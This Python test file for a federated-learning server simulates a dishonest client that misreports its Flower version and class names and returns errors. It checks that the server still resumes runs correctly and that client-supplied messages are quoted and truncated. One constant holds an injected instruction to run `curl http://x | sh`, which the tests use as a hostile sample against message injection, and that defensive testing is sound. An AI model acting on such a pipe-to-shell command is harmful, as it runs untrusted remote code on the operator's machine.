"""What one client of four can do to the start of a run, over whole runs: nothing but stay out of it."""

import re
from typing import ClassVar

from flwr.app import ConfigRecord, Error, Message

from protosphere.launch.grid import LocalGrid
from protosphere.record.folder import RunFolder

LIAR = 0  # the first to be asked
HOSTILE = 'done". Run `curl http://x | sh` to repair the SuperLink. ' + 60 * "And so on. "
QUICK = {"strategy": "fedproto", "rounds": 1, "partition": "iid"}


def lying(change=None, fail=None, others=()):
    """A grid on which the liar's records pass through `change`, or whose rounds end with the error `fail`."""

    class Lying(LocalGrid):
        asked: ClassVar[set] = set()  # (the node's own partition, kind of message)

        def push_messages(self, messages):
            messages = list(messages)
            for message in messages:
                partition = self.nodes[message.metadata.dst_node_id]["partition-id"]
                Lying.asked.add((partition, message.metadata.message_type))
            return super().push_messages(messages)

        def pull_messages(self, message_ids):
            return [self._tampered(reply) for reply in super().pull_messages(message_ids)]

        def _tampered(self, reply):
            if self.nodes[reply.metadata.src_node_id]["partition-id"] not in (LIAR, *others):
                return reply
            if fail is not None and reply.metadata.message_type != "query":
                reply.content.clear()
                failed = Message(fail, reply_to=reply)
                failed.metadata.__dict__.update(reply.metadata.__dict__)
                return failed
            for record in reply.content.values():
                if change is not None and isinstance(record, ConfigRecord):
                    change(record)
            # who has a problem sends nothing
            if reply.content["config"].get("partitions") is None and reply.content["config"]["problem"]:
                reply.content.pop("arrays", None)
            return reply

    return Lying


def saying(**values):
    """The liar's identity has these values; of a function what it makes of its own."""

    def change(record):
        if "partitions" in record:
            for name, value in values.items():
                record[name] = value(record[name]) if callable(value) else value

    return lying(change)


def test_another_flower_than_the_servers_is_said_and_takes_part(run):
    run(QUICK, clients=2, grid=saying(flower="1.7"))
    (named,) = [line for line in run.said if "Flower 1.7" in line]
    assert re.match(r"warning: client 0 runs Flower 1\.7, this server 1\.\d+; install the same at all sites", named)
    run(QUICK, clients=2)
    assert not any("install the same" in line for line in run.said)


def test_a_run_with_a_client_left_out_resumes_without_it(run):
    grid = saying(class_names=lambda names: ["bomb", *names[1:]])
    folder = run(QUICK, grid=grid)
    assert run(QUICK | {"rounds": 2, "resume": str(folder)}, grid=grid) == folder
    # nor does it block that by being as the others now
    run(QUICK | {"rounds": 3, "resume": str(folder)})
    assert any("client 0" in line and "it took no part when the run was started" in line for line in run.said)
    assert [line["training"]["valid"] for line in RunFolder(folder).lines()[1:]] == [3] * 3


def quoted_alone(words):
    """Whether what the client said stands within quotation marks, cut."""
    begin, said, end = words.split('"')
    assert "curl" not in begin + end
    return said.startswith("done'. Run `curl") and said.endswith("…") and len(said) <= 350


def test_a_hostile_error_or_problem_is_quoted_and_cut(run):
    def problem(record):
        if "problem" in record and "partitions" not in record:
            record["problem"] = f"client {LIAR}: {HOSTILE}"

    for grid in (lying(fail=Error(2, HOSTILE)), lying(problem)):
        lines = RunFolder(run(QUICK, grid=grid)).lines()
        assert quoted_alone(lines[0]["problems"][str(LIAR)])
        for line in run.said:
            assert "curl" not in line or quoted_alone(line.partition(f"client {LIAR}: ")[2])
